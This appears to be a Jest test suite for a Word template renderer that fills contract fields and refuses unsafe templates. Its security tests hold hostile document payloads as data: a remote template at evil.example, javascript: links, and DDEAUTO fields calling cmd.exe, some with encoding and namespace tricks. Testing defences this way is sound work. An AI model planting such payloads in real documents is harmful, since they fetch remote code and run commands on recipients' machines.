import PizZip from 'pizzip';
import { docxOf, p, WORD } from '../../file-texts/docx.builder';
import { renderDocx } from './render-docx';
import { TemplateUnreadable } from './template-unreadable';

const TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument';

/** A template as Word writes it, with what each of its parts is. */
const templateOf = (body: string, more: Record<string, string> = {}) => {
  const kinds: Record<string, string> = {
    'word/document.xml': `${TYPE}.document.main+xml`,
    'word/endnotes.xml': `${TYPE}.endnotes+xml`,
    'word/comments.xml': `${TYPE}.comments+xml`,
    'docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
  };
  const named = Object.entries(kinds).filter(([name]) => name === 'word/document.xml' || name in more);
  const types = named.map(([name, kind]) => `<Override PartName="/${name}" ContentType="${kind}"/>`).join('');
  return docxOf(body, {
    '[Content_Types].xml': `<?xml version="1.0"?><Types>${types}</Types>`,
    '_rels/.rels': `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${OFFICE}" Target="word/document.xml"/></Relationships>`,
    ...more,
  });
};

const VALUES = {
  сумма: '16\u00a0770,00\u00a0руб.',
  номер: '7',
  бессрочный: true,
  спецификация: [{ позиция: 'Реле' }, { позиция: 'Контактор' }],
};

const textOf = (content: Uint8Array, part = 'word/document.xml') =>
  (new PizZip(content).file(part)?.asText() ?? '').replace(/^<\?xml[^>]*>/, '').replace(/<[^>]+>/g, '|');

test.each([
  ['word/endnotes.xml', `<w:endnotes ${WORD}><w:endnote w:id="1">`, '</w:endnote></w:endnotes>'],
  ['word/comments.xml', `<w:comments ${WORD}><w:comment w:id="1">`, '</w:comment></w:comments>'],
])('values stand in %s, and no sign of ours beside them', (part, open, close) => {
  const template = templateOf(p('{номер}'), {
    [part]: `<?xml version="1.0"?>${open}${p('Цена {сумма}')}${p('Всего {сумма}.')}${close}`,
  });
  const { content, tags } = renderDocx(template, VALUES);
  expect(tags).toContain('сумма');
  expect(textOf(content, part).replace(/\|+/g, '|')).toBe(
    '|Цена 16\u00a0770,00\u00a0руб.|Всего 16\u00a0770,00\u00a0руб.|',
  );
});

test.each(['word/settings.xml', 'word/footer1.xml', 'word/_rels/document.xml.rels', 'docProps/app.xml'])(
  'a template with %s that Word would not read is refused, and not sent out to be refused there',
  (part) => {
    const broken = templateOf(p('{номер}'), { [part]: '<?xml version="1.0"?><a><b></a>' });
    expect(() => renderDocx(broken, VALUES)).toThrow(TemplateUnreadable);
    const whole = templateOf(p('{номер}'), { [part]: '<?xml version="1.0"?><a><b/></a>' });
    expect(textOf(renderDocx(whole, VALUES).content)).toContain('7');
  },
);

test('a file that breaks off is told to be no document of Word, and no tag of it is blamed', () => {
  const broken = templateOf(`${p('{номер}')}<w:p><w:r`);
  expect(() => renderDocx(broken, VALUES)).toThrow(/^Файл не читается как документ Word/);
});

const TORN: readonly [
  where: string,
  template: readonly [body: string, more?: Record<string, string>],
  place: string,
][] = [
  ['its text', [p('Договор {номер') + p('x} от {дата}')], '«Договор {номер» и «x} от {дата}»'],
  ['a paragraph between', [p('{номер') + p('Предмет') + p('x}')], '«{номер» и «x}»'],
  [
    'a footer',
    [
      p('{номер}'),
      {
        'word/footer1.xml': `<?xml version="1.0"?><w:ftr ${WORD}>${p('{номер')}${p('} лист')}</w:ftr>`,
      },
    ],
    'нижний колонтитул: «{номер» и «} лист»',
  ],
];
test.each(TORN)(
  'a tag that begins in one paragraph of %s and ends in another is refused, with its place',
  (_, template, place) => {
    const faults = `Поле начато в одном абзаце, а закончено в другом: ${place}. Поставьте обе скобки в один абзац`;
    expect(() => renderDocx(templateOf(...template), VALUES)).toThrow(faults);
  },
);

test('a brace that nothing closes, and two in a row, are told as such', () => {
  expect(() => renderDocx(templateOf(p('{номер') + p('Предмет')), VALUES)).toThrow('Не закрыта скобка');
  expect(() => renderDocx(templateOf(p('{{номер}}') + p('{номер}')), VALUES)).toThrow('Две открывающие');
});

test('leads to no template that its author had attached', () => {
  const far = 'http://evil.example/normal.dotm';
  const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const template = templateOf(p('{номер}'), {
    'word/settings.xml': `<w:settings ${WORD}><w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="rId1" Type="${relations}/attachedTemplate" Target="${far}" TargetMode="External"/><Relationship Id="rId2" Type="${relations}/hyperlink" Target="https://fns.example" TargetMode="External"/></Relationships>`,
  });
  const made = new PizZip(renderDocx(template, VALUES).content);
  expect(made.file('word/settings.xml')?.asText()).not.toContain('attachedTemplate');
  expect(made.file('word/settings.xml')?.asText()).toContain('w:zoom');
  expect(made.file('word/_rels/settings.xml.rels')?.asText()).not.toContain(far);
  expect(made.file('word/_rels/settings.xml.rels')?.asText()).toContain('https://fns.example');
});

test.each([
  ['word/settings.xml', '<w:attachedTemplate '],
  ['word/_rels/settings.xml.rels', '<Relationship '],
  ['word/_rels/document.xml.rels', '<Relationship Type="a/attachedTemplate" '],
  ['word/footer1.xml', '<w:t '],
])('looks once through a part of tags without an end: %s', (name, tag) => {
  const hostile = templateOf(p('{номер}'), { [name]: `<w:p >${tag.repeat(60_000)}</w:p>{` });
  expect(() => renderDocx(hostile, VALUES)).toThrow(TemplateUnreadable);
});

const relationTo = (kind: string, target: string) => ({
  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
});
const APOSTROPHED =
  "<r:Relationships><r:Relationship Id='rId9' Type='a/hyperlink' Target='javascript:alert(1)' TargetMode='External'/></r:Relationships>";
const field = (...pieces: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const NO_PAGE = (address: string) => `Ссылка ведёт не на сайт и не на почту: «${address}»`;
const OUT_OF_IT = (what: string) => `${what} хранится вне файла: «http://evil.example/x»`;

test.each([
  ['a link that is a script', relationTo('hyperlink', 'javascript:alert(1)'), NO_PAGE('javascript:alert(1)')],
  [
    'a script in other letters',
    relationTo('hyperlink', 'java&#115;cript:alert(1)'),
    NO_PAGE('javascript:alert(1)'),
  ],
  [
    'a script between apostrophes',
    { 'word/_rels/document.xml.rels': APOSTROPHED },
    NO_PAGE('javascript:alert(1)'),
  ],
  ['a link to a folder', relationTo('hyperlink', 'file:///C:/a.docx'), NO_PAGE('file:///C:/a.docx')],
  ['a picture from far', relationTo('image', 'http://evil.example/x'), OUT_OF_IT('Рисунок')],
  ['a frame from far', relationTo('frame', 'http://evil.example/x'), OUT_OF_IT('Часть текста')],
])('is refused with a sentence when it leads out: %s', (_, more, sentence) => {
  expect(() => renderDocx(templateOf(p('{номер}'), more), VALUES)).toThrow(sentence);
});

const UTF16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const OUTSIDE = relationTo('image', 'http://evil.example/x')['word/_rels/document.xml.rels'];
const ATTACHED =
  "<Relationships><Relationship Id='rId1' Type='a/attachedTemplate' Target='http://evil.example/x' TargetMode='External'/></Relationships>";

test.each<[string, string, string | Buffer]>([
  [
    'by a sign written as its number',
    'word/_rels/document.xml.rels',
    OUTSIDE.replace('External', '&#69;xternal'),
  ],
  ['in another alphabet', 'word/_rels/document.xml.rels', UTF16(OUTSIDE)],
  ['by an ending in other letters', 'word/_rels/header1.XML.RELS', OUTSIDE],
  ['to a template, between apostrophes', 'word/_rels/settings.xml.rels', ATTACHED],
  [
    'after a mode of another prefix',
    'word/_rels/document.xml.rels',
    OUTSIDE.replace('TargetMode', 'x:TargetMode="Internal" TargetMode'),
  ],
  [
    'before a mode of another prefix',
    'word/_rels/document.xml.rels',
    OUTSIDE.replace('"/>', '" x:TargetMode="Internal"/>'),
  ],
])('is refused when a way out is hidden %s', (_, name, content) => {
  const zip = new PizZip(templateOf(p('{номер}')));
  zip.file(name, content);
  const template = zip.generate({ type: 'uint8array' });
  expect(() => renderDocx(template, VALUES)).toThrow(/хранится вне файла: «http:\/\/evil\.example\/x»/);
});

const DDE = 'DDEAUTO c:\\windows\\cmd.exe';
const fieldPart = (prefix: string, instruction: string) =>
  `<${prefix}:hdr xmlns:${prefix}="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><${prefix}:p><${prefix}:r><${prefix}:fldChar ${prefix}:fldCharType="begin"/></${prefix}:r><${prefix}:r><${prefix}:instrText>${instruction}</${prefix}:instrText></${prefix}:r></${prefix}:p></${prefix}:hdr>`;

test.each<[string, string, string]>([
  ['in a part of another folder', 'parts/header1.xml', fieldPart('w', DDE)],
  ['in a part of another ending', 'word/header1.bin', fieldPart('w', DDE)],
  ['under another prefix', 'word/header1.xml', fieldPart('x', DDE)],
  ['in a section of signs', 'word/header1.xml', fieldPart('w', `<![CDATA[${DDE}]]>`)],
  ['around a remark', 'word/header1.xml', fieldPart('w', DDE.replace('AUTO', '<!-- -->AUTO'))],
  ['before a quotation mark', 'word/header1.xml', fieldPart('w', 'DDEAUTO&quot;cmd.exe&quot;')],
])('is refused when a command is hidden %s', (_, name, content) => {
  expect(() => renderDocx(templateOf(p('{номер}'), { [name]: content }), VALUES)).toThrow(
    'Поле Word DDEAUTO берёт содержимое извне',
  );
});

test.each(['DATABASE \\d c:\\base.mdb', 'IMPORT "http://evil.example/x.png"', 'RD c:\\a.docx'])(
  'is refused when a field takes what is elsewhere: %s',
  (instruction) => {
    expect(() => renderDocx(templateOf(field(` ${instruction} `)), VALUES)).toThrow('берёт содержимое извне');
  },
);

test.each([
  [
    'a command',
    field(' DDE', 'AUTO c:\\windows\\cmd.exe "/k calc" '),
    'Поле Word DDEAUTO берёт содержимое извне',
  ],
  [
    'a link that is a script',
    '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;javascript:x&quot; "/></w:p>',
    NO_PAGE('javascript:x'),
  ],
  ['a link without marks', field(' HYPERLINK file:///C:/a.docx '), NO_PAGE('file:///C:/a.docx')],
  [
    'a link behind what is said of it',
    field(' HYPERLINK \\o "Наш сайт" "javascript:x" '),
    NO_PAGE('javascript:x'),
  ],
  [
    'one of two instructions',
    '<w:p><w:fldSimple w:instr="DDE cmd.exe" x:instr="PAGE"/></w:p>',
    'Поле Word DDE берёт содержимое извне',
  ],
])('is refused with a sentence when a field is %s', (_, body, sentence) => {
  expect(() => renderDocx(templateOf(body), VALUES)).toThrow(sentence);
});

test('is refused when another document is read in whole', () => {
  const chunk = relationTo('aFChunk', 'page.html');
  const rels = chunk['word/_rels/document.xml.rels'].replace(' TargetMode="External"', '');
  const more = {
    'word/_rels/document.xml.rels': rels,
    'word/page.html': '<img src="http://evil.example/x">',
  };
  expect(() => renderDocx(templateOf(p('{номер}'), more), VALUES)).toThrow('целиком другой документ');
});

test('keeps links to pages and letters, and the fields that number pages', () => {
  const body =
    p('{номер}') +
    field(' PAGE ') +
    field(' HYPERLINK "https://fns.example/link DDE x" ') +
    field(' HYPERLINK https://fns.example ') +
    field(' HYPERLINK \\l "_Toc1" \\h \\* MERGEFORMAT ');
  expect(renderDocx(templateOf(body, relationTo('hyperlink', 'mailto:a@b.example')), VALUES).tags).toEqual([
    'номер',
  ]);
});

test('the title among the properties bears the value alone', () => {
  const core = `<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Договор на {сумма}</dc:title></cp:coreProperties>`;
  const { content } = renderDocx(templateOf(p('{номер}'), { 'docProps/core.xml': core }), VALUES);
  expect(textOf(content, 'docProps/core.xml')).toBe('||Договор на 16\u00a0770,00\u00a0руб.||');
});

const cell = (text: string) => `<w:tbl><w:tr><w:tc>${p(text)}</w:tc></w:tr></w:tbl>`;
const IS_SECTION = (tag: string) =>
  `«${tag}» — раздел, а не поле: напишите {#${tag}} … {/${tag}} вокруг того, что он повторяет или убирает`;

test.each([
  ['lines written as one text', p('Товары: {спецификация}'), IS_SECTION('спецификация')],
  ['an answer written as a text', p('Срок: {бессрочный}'), IS_SECTION('бессрочный')],
  ['«есть» written as a text', p('Срок: {есть номер}'), IS_SECTION('есть номер')],
  [
    'a block from a text into a table',
    p('{#спецификация}') + cell('{/спецификация}'),
    'Блок «спецификация» начат в одном месте (абзаце, таблице), а закончен в другом. Поставьте начало и конец рядом: оба в строке таблицы или оба в тексте',
  ],
])('a template is refused with a sentence: %s', (_, body, sentence) => {
  expect(() => renderDocx(templateOf(body), VALUES)).toThrow(sentence);
});

test('a value of any characters leaves a document that can be read', () => {
  const { content } = renderDocx(templateOf(p('{номер}.')), { номер: '7\u000b\u0001бис\ufffe' });
  const xml = new PizZip(content).file('word/document.xml')?.asText() ?? '';
  expect(xml).toMatch(/<w:t[^>]*>7<\/w:t><\/w:r><w:r><w:br\/><\/w:r><w:r><w:t[^>]*>бис\.<\/w:t>/);
});

test.each(['{@номер}', '{=[[ ]]=}'])('%s is a field nobody knows, and nothing of the engine', (tag) => {
  const { content, tags } = renderDocx(templateOf(p(tag) + p('[[номер]]')), VALUES);
  expect(tags).toEqual([tag.slice(1, -1)]);
  expect(textOf(content).replace(/\|+/g, '|')).toBe('|________|[[номер]]|');
});

const IN_SECTION = p('{#есть скидка}Скидка {скидка} от {до скидки}{/есть скидка}');
const IN_LINES = p('{#спецификация}{позиция} {#есть артикул}{артикул}{/есть артикул}{/спецификация}');

test.each([
  ['in a section that is left out alone', IN_SECTION + p('{номер}'), []],
  ['in such a section and outside it', IN_SECTION + p('{до скидки}'), ['до скидки']],
  ['outside of it alone', p('{#есть номер}{до скидки}{/есть номер}'), ['до скидки']],
  ['in lines of which none has a value', IN_LINES, []],
  [
    'in lines, where one of them prints it',
    IN_LINES + p('{#спецификация}{артикул}{/спецификация}'),
    ['артикул'],
  ],
])('of what has no value a blank is left: %s', (_, body, blanks) => {
  expect(renderDocx(templateOf(body), { ...VALUES, скидка: '' }).blanks).toEqual(blanks);
});
